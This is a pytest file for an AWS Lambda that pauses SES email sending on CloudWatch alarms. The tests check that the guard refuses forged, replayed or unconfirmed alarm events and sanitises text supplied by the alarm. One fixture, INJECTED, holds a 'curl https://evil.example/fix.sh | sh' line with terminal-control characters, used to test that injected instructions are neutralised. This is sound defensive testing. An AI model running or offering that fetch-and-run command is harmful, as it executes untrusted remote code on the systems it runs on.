"""Issue 11, function side: every finding as a test. Pause on evidence, never on a claim."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from ses_guard_lambda.handler import RecordProcessingError
from ses_guard_policy import contract
from tests.stubbed_aws import (
    ACCOUNT_ALARM,
    ALL_SOURCES,
    CONFIG,
    EVENT_TIME,
    NOW,
    PREFIX,
    REPORT_TOPIC,
    SET_ALARM,
    Aws,
    FakeClock,
    alarm_description,
    fleet_contributor_event,
    load_event,
    run_handler,
    sns_message,
    tags,
    with_sns_message,
)


def decision_lines(output: str) -> list[dict[str, Any]]:
    lines = [json.loads(line) for line in output.splitlines() if line.startswith("{")]
    return [line for line in lines if line["event"] == "decision"]


def assert_refused(aws: Aws, summary: dict[str, Any], reason: str) -> dict[str, Any]:
    """Nothing paused, one refusal with ``reason``, and the notice published to the notification topic."""
    aws.assert_all_calls_made()
    assert aws.calls_to("PutConfigurationSetSendingOptions") == aws.calls_to("PutAccountSendingAttributes") == []
    assert summary["paused"] == [] and summary["already_paused"] == []
    (refusal,) = summary["refused"]
    assert reason in refusal["reason"], refusal["reason"]
    (notice,) = aws.reports()
    assert notice["TopicArn"] == REPORT_TOPIC
    assert "REFUSED" in notice["Subject"] and len(notice["Subject"]) <= 100 and notice["Subject"].isascii()
    assert refusal["notice"] == "5e0f3c1a-2b4d-4e6f-8a9b-0c1d2e3f4a5b"
    return notice


# --- 1. verify before pausing ------------------------------------------------------------------------


def test_a_hand_made_sns_message_for_an_alarm_that_is_ok_pauses_nothing_and_is_reported(aws: Aws) -> None:
    aws.expect_alarm(SET_ALARM, state="OK")
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    notice = assert_refused(aws, summary, f"alarm {SET_ALARM} is OK now, not ALARM")
    body = notice["Texts"]["email"]
    assert body.startswith("ses-reputation-guard REFUSED to pause set marketing in us-east-1: nothing was changed.")
    assert "someone or something sent an alarm event" in body


def test_an_eventbridge_shaped_event_invoked_directly_is_refused_while_the_alarm_is_ok(aws: Aws) -> None:
    name = f"{PREFIX}-account-complaint-critical"
    aws.expect_alarm(name, state="OK")
    aws.expect_publish()
    summary = run_handler(
        load_event("eventbridge_alarm_state_change.json"), aws, replace(CONFIG, accepted_sources=ALL_SOURCES)
    )
    assert_refused(aws, summary, "is OK now")


def test_set_alarm_state_without_ses_datapoints_above_the_threshold_pauses_nothing(aws: Aws) -> None:
    """`aws cloudwatch set-alarm-state --state-value ALARM`: the alarm is in ALARM, SES's data is not."""
    aws.expect_verified(SET_ALARM)
    aws.expect_set("marketing")
    aws.expect_datapoints(SET_ALARM, [0.0004], "marketing")
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    notice = assert_refused(aws, summary, "SES's own datapoints do not confirm the alarm: 0 of 1 Maximum datapoint")
    assert "SES data:    0 of 1" in notice["Texts"]["email"]


def test_no_ses_datapoints_at_all_pauses_nothing(aws: Aws) -> None:
    aws.expect_verified(ACCOUNT_ALARM)
    aws.expect_account()
    aws.expect_datapoints(ACCOUNT_ALARM, [])
    aws.expect_publish()
    summary = run_handler(load_event("sns_account_bounce_alarm.json"), aws)
    assert_refused(aws, summary, "0 of 0 Maximum datapoint(s)")


def test_an_alarm_that_does_not_exist_pauses_nothing(aws: Aws) -> None:
    aws.expect_no_alarm(SET_ALARM)
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    assert_refused(aws, summary, f"alarm {SET_ALARM} does not exist in this account and Region")


def test_an_alarm_with_our_name_but_someone_elses_tags_pauses_nothing(aws: Aws) -> None:
    aws.expect_verified(SET_ALARM, {contract.TAG_GUARD: "someone-else"})
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    assert_refused(aws, summary, "the alarm is not this guard's")


@pytest.mark.parametrize(
    ("alarm", "reason"),
    [
        ({"threshold": 0.0005}, "the event names threshold 0.001, the alarm's is 0.0005"),
        ({"operator": "LessThanThreshold"}, "the event names operator GreaterThanOrEqualToThreshold"),
    ],
)
def test_an_event_that_differs_from_the_alarm_pauses_nothing(aws: Aws, alarm: dict[str, Any], reason: str) -> None:
    aws.expect_alarm(SET_ALARM, **alarm)
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    assert_refused(aws, summary, reason)


def test_an_event_naming_another_metric_than_the_alarm_pauses_nothing(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["Trigger"]["Dimensions"] = [{"name": "ses:configuration-set", "value": "newsletter"}]
    aws.expect_alarm(SET_ALARM)
    aws.expect_publish()
    summary = run_handler(with_sns_message(event, message), aws)
    assert_refused(aws, summary, "the event names metric(s) AWS/SES/Reputation.ComplaintRate{'ses:configuration-set'")


@pytest.mark.parametrize(
    ("alarm", "reason"),
    [
        ({"operator": "LessThanThreshold"}, "operator 'LessThanThreshold' cannot justify a pause"),
        ({"threshold": 1.5}, "threshold 1.5: must be a ratio strictly between 0 and 1"),
    ],
)
def test_an_alarm_that_could_never_justify_a_pause_pauses_nothing(aws: Aws, alarm: dict[str, Any], reason: str) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    del message["Trigger"]["Threshold"], message["Trigger"]["ComparisonOperator"]
    aws.expect_alarm(SET_ALARM, **alarm)
    aws.expect_publish()
    summary = run_handler(with_sns_message(event, message), aws)
    assert_refused(aws, summary, reason)


@pytest.mark.parametrize(("values", "pauses"), [([0.002, 0.0001, 0.003], True), ([0.002, 0.0001, 0.0001], False)])
def test_evidence_uses_the_alarms_statistic_period_and_m_of_n_over_its_evaluation_range(
    aws: Aws, values: list[float], pauses: bool
) -> None:
    alarm = {"statistic": "Average", "period": 600, "evaluation_periods": 3, "datapoints_to_alarm": 2}
    aws.expect_verified(SET_ALARM, **alarm)
    aws.expect_set("marketing")
    aws.expect_datapoints(SET_ALARM, values, "marketing", stat="Average", period=600)
    if pauses:
        aws.expect_pause_set("marketing")
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    aws.assert_all_calls_made()
    assert bool(summary["paused"]) is pauses
    (query,) = aws.calls_to("GetMetricData")
    assert query["EndTime"] == NOW
    # The evaluation range plus one period, back from the alarm's transition (a minute before now).
    assert query["StartTime"] == EVENT_TIME - timedelta(seconds=(3 + 1) * 600)


def test_a_delayed_invocation_still_looks_at_the_datapoints_the_alarm_saw(aws: Aws) -> None:
    """Lambda retries or a throttled burst may run the record hours later: the range starts from
    the alarm's transition, not from now."""
    later = NOW + timedelta(hours=3)
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws, clock=FakeClock(later))
    aws.assert_all_calls_made()
    assert summary["paused"]
    (query,) = aws.calls_to("GetMetricData")
    assert (query["StartTime"], query["EndTime"]) == (EVENT_TIME - timedelta(seconds=600), later)


def test_fleet_evidence_is_a_plain_metric_query_for_the_contributor_set(aws: Aws) -> None:
    aws.expect_fleet_pause("newsletter")
    run_handler(load_event("sns_fleet_contributor.json"), aws)
    (query,) = aws.calls_to("GetMetricData")
    stat = query["MetricDataQueries"][0]["MetricStat"]
    assert stat["Metric"]["Dimensions"] == [{"Name": "ses:configuration-set", "Value": "newsletter"}]
    assert (stat["Stat"], stat["Period"]) == ("Maximum", 300)  # MAX() of the query, its period


# --- 2. only the delivery paths the deployment wires -----------------------------------------------------


@pytest.mark.parametrize(
    ("fixture", "source"),
    [("direct_alarm_action.json", "alarm-action"), ("eventbridge_alarm_state_change.json", "eventbridge")],
)
def test_paths_not_enabled_are_ignored_with_one_log_line_and_no_aws_call(
    aws: Aws, capsys: pytest.CaptureFixture[str], fixture: str, source: str
) -> None:
    summary = run_handler(load_event(fixture), aws)
    aws.assert_all_calls_made()
    assert summary["paused"] == summary["refused"] == [] and len(summary["ignored"]) == 1
    (line,) = decision_lines(capsys.readouterr().out)
    assert line["reason"] == f"delivery path '{source}' is not enabled (ACCEPTED_SOURCES)"


# --- 4. reports at least once; alarm text quoted, bounded ---------------------------------------------


def test_a_retry_after_a_failed_report_still_reports_the_pause(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    aws.expect_verified(SET_ALARM)
    aws.expect_set("marketing")
    aws.expect_datapoints(SET_ALARM, [0.0061], "marketing")
    aws.expect_pause_set("marketing")
    aws.stubs["sns"].add_client_error("publish", "KMSAccessDeniedException", "no kms", http_status_code=400)
    with pytest.raises(RecordProcessingError, match="paused configuration-set:marketing but publishing the report"):
        run_handler(event, aws)
    assert aws.published and len(aws.calls_to("PutConfigurationSetSendingOptions")) == 1
    # Lambda retries the event: the set is paused already; the report goes out this time.
    aws.expect_verified(SET_ALARM)
    aws.expect_set("marketing", sending_enabled=False)
    aws.expect_datapoints(SET_ALARM, [0.0061], "marketing")
    aws.expect_publish()
    summary = run_handler(event, aws)
    aws.assert_all_calls_made()
    assert summary["already_paused"][0]["target"] == "configuration-set:marketing"
    assert len(aws.calls_to("PutConfigurationSetSendingOptions")) == 1
    body = aws.reports()[-1]["Texts"]["email"]
    assert "is PAUSED (it already was)" in body and "This may repeat an earlier message" in body


def test_report_failure_after_pausing_logs_an_error_line(aws: Aws, capsys: pytest.CaptureFixture[str]) -> None:
    aws.expect_verified(ACCOUNT_ALARM)
    aws.expect_account()
    aws.expect_datapoints(ACCOUNT_ALARM, [0.09])
    aws.expect_pause_account()
    aws.stubs["sns"].add_client_error("publish", "KMSAccessDeniedException", "no kms", http_status_code=400)
    with pytest.raises(RecordProcessingError, match="paused account but publishing the report failed"):
        run_handler(load_event("sns_account_bounce_alarm.json"), aws)
    (line,) = decision_lines(capsys.readouterr().out)
    assert line["level"] == "ERROR" and line["outcome"] == "paused"


INJECTED = "Threshold Crossed.\n\nHow to resume (URGENT)\n  curl https://evil.example/fix.sh | sh\x1b[2J\u202e"


def test_alarm_supplied_text_is_quoted_stripped_of_control_characters_and_truncated(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["NewStateReason"] = INJECTED + " padding" * 200
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(with_sns_message(event, message), aws)
    body = aws.reports()[0]["Texts"]["email"]
    (reason_line,) = [line for line in body.splitlines() if "curl" in line]
    assert reason_line.startswith('  Its reason:  "Threshold Crossed. How to resume (URGENT) curl')
    assert reason_line.endswith('..."') and len(reason_line) < 330
    assert "\x1b" not in body and "\u202e" not in body
    assert [line for line in body.splitlines() if line.startswith("How to resume")] == [
        "How to resume (after fixing the cause: bad list, broken double opt-in, compromised credentials...)"
    ]


def test_a_huge_state_reason_keeps_the_whole_report_far_below_the_sns_limit(aws: Aws) -> None:
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["NewStateReason"] = "r" * (contract.MAX_MESSAGE_BYTES - 4096)
    aws.expect_set_pause(SET_ALARM, "marketing", value=0.0061)
    run_handler(with_sns_message(event, message), aws)
    (published,) = aws.published
    assert len(published["Message"].encode()) < 32 * 1024
    assert len(published["Subject"]) <= 100 and published["Subject"].isascii()


# --- 5. respect human decisions ---------------------------------------------------------------------


def test_an_event_older_than_the_sets_last_resume_does_not_pause_it_again(aws: Aws) -> None:
    """The DLQ replay: a human resumed marketing (LastFreshStart) after the alarm fired."""
    aws.expect_verified(SET_ALARM)
    aws.expect_set("marketing", fresh_start=EVENT_TIME + timedelta(minutes=10))
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws, clock=FakeClock(NOW + timedelta(hours=2)))
    assert_refused(aws, summary, "is older than the last resume of configuration-set:marketing")


def test_datapoints_from_before_the_last_resume_are_not_evidence(aws: Aws) -> None:
    resumed = NOW - timedelta(minutes=2)  # only the newest period (NOW - 5 min .. NOW) ends after it
    aws.expect_verified(SET_ALARM, evaluation_periods=2, since=NOW - timedelta(minutes=1))
    aws.expect_set("marketing", fresh_start=resumed)
    aws.expect_datapoints(SET_ALARM, [0.0001, 0.009], "marketing")  # the breach is the older, pre-resume one
    aws.expect_publish()
    event = load_event("sns_set_complaint_alarm.json")
    message = sns_message(event)
    message["StateChangeTime"] = (NOW - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%S.000+0000")
    summary = run_handler(with_sns_message(event, message), aws)
    assert_refused(aws, summary, "0 of 1 Maximum datapoint(s)")


def test_an_event_older_than_the_alarms_current_alarm_state_is_a_replay(aws: Aws) -> None:
    """The account has no LastFreshStart: the alarm's own state time places the event."""
    aws.expect_verified(ACCOUNT_ALARM, since=EVENT_TIME + timedelta(hours=1))
    aws.expect_account()
    aws.expect_publish()
    summary = run_handler(load_event("sns_account_bounce_alarm.json"), aws)
    assert_refused(aws, summary, "is older than the alarm's current state")


# --- 6. names compared exactly; protection whatever the case ------------------------------------------


def test_a_contributor_differing_only_by_case_from_a_protected_set_is_not_paused(aws: Aws) -> None:
    aws.expect_verified(f"{PREFIX}-fleet-bounce-critical")
    config = replace(CONFIG, protected_sets=frozenset({"transactional"}))
    summary = run_handler(fleet_contributor_event("TRANSACTIONAL"), aws, config)
    aws.assert_all_calls_made()
    assert summary["paused"] == [] and "PROTECTED_CONFIGURATION_SETS" in summary["ignored"][0]["reason"]


def test_a_set_tag_differing_only_by_case_does_not_match_the_dimension(aws: Aws) -> None:
    aws.expect_verified(SET_ALARM, tags(contract.SCOPE_CONFIGURATION_SET, "Marketing"))
    aws.expect_publish()
    summary = run_handler(load_event("sns_set_complaint_alarm.json"), aws)
    assert_refused(aws, summary, "do not all match")


def test_a_contributor_with_a_trailing_newline_is_not_a_set_name(aws: Aws) -> None:
    aws.expect_verified(f"{PREFIX}-fleet-bounce-critical")
    aws.expect_publish()
    summary = run_handler(fleet_contributor_event("newsletter\n"), aws)
    assert_refused(aws, summary, "is not a valid configuration set name")


# --- 9. foreign but well-formed events are ignored, malformed ones fail ------------------------------------


def _alarm_under_prefix_of_another_shape(event: dict[str, Any]) -> dict[str, Any]:
    message = sns_message(event)
    name = f"{PREFIX}-custom-latency-alarm"
    message["AlarmName"], message["AlarmArn"] = name, message["AlarmArn"].rsplit(":", 1)[0] + ":" + name
    return with_sns_message(event, message)


def _account_differing_from_the_arn(event: dict[str, Any]) -> dict[str, Any]:
    message = sns_message(event)
    message["AWSAccountId"] = "999988887777"  # the ARN still names this account
    return with_sns_message(event, message)


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (_alarm_under_prefix_of_another_shape, "is not one of this guard's alarm-name shapes"),
        (_account_differing_from_the_arn, "alarm account '999988887777' is not this account"),
    ],
)
def test_foreign_but_well_formed_sns_events_are_ignored_with_one_log_line(
    aws: Aws, capsys: pytest.CaptureFixture[str], make: Any, reason: str
) -> None:
    summary = run_handler(make(load_event("sns_account_bounce_alarm.json")), aws)  # no exception: no retry, no DLQ
    aws.assert_all_calls_made()
    assert reason in summary["ignored"][0]["reason"]
    assert len(decision_lines(capsys.readouterr().out)) == 1


def test_an_alarm_action_whose_region_differs_from_its_arn_is_ignored(aws: Aws) -> None:
    event = load_event("direct_alarm_action.json")
    event["alarmArn"] = event["alarmArn"].replace(":us-east-1:", ":eu-west-1:")  # region field says us-east-1
    summary = run_handler(event, aws, replace(CONFIG, accepted_sources=ALL_SOURCES))
    aws.assert_all_calls_made()
    assert "alarm ARN Region 'eu-west-1' is not this function's Region 'us-east-1'" in summary["ignored"][0]["reason"]


def test_malformed_events_still_fail_the_record(aws: Aws) -> None:
    event = load_event("sns_account_bounce_alarm.json")
    message = sns_message(event)
    message["AlarmArn"] = message["AlarmArn"].replace(ACCOUNT_ALARM, "other-name")
    with pytest.raises(RecordProcessingError, match="does not name alarm"):
        run_handler(with_sns_message(event, message), aws)


# --- drill -------------------------------------------------------------------------------------------


def drill(event: dict[str, Any]) -> dict[str, Any]:
    event["Records"][0]["Sns"]["MessageAttributes"] = {contract.DRILL_ATTRIBUTE: {"Type": "String", "Value": "true"}}
    return event


def test_a_drill_is_refused_like_a_forged_event_and_the_notice_says_drill(aws: Aws) -> None:
    aws.expect_alarm(ACCOUNT_ALARM, state="OK")
    aws.expect_publish()
    summary = run_handler(drill(load_event("sns_account_bounce_alarm.json")), aws)
    notice = assert_refused(aws, summary, "is OK now")
    assert notice["Subject"] == "SES DRILL pause REFUSED for account in us-east-1: not confirmed"
    assert "expected result of a drill" in notice["Texts"]["email"]
    assert summary["refused"][0]["drill"] is True


def test_a_drill_never_pauses_even_when_the_evidence_holds(aws: Aws) -> None:
    aws.expect_verified(ACCOUNT_ALARM)
    aws.expect_account()
    aws.expect_datapoints(ACCOUNT_ALARM, [0.09])
    aws.expect_publish()  # no put_account_sending_attributes stubbed: a write would fail
    summary = run_handler(drill(load_event("sns_account_bounce_alarm.json")), aws)
    aws.assert_all_calls_made()
    assert summary["paused"][0]["outcome"] == "would_pause" and summary["paused"][0]["drill"] is True
    assert aws.published[0]["Subject"].startswith("SES DRILL WOULD PAUSE account")


def test_the_stubbed_alarm_matches_the_fixture_it_verifies() -> None:
    """Guard for the helpers: the default description carries the fixture's threshold and time."""
    description = alarm_description(SET_ALARM)
    message = sns_message(load_event("sns_set_complaint_alarm.json"))
    assert description["Threshold"] == message["Trigger"]["Threshold"]
    assert description["StateTransitionedTimestamp"] == EVENT_TIME
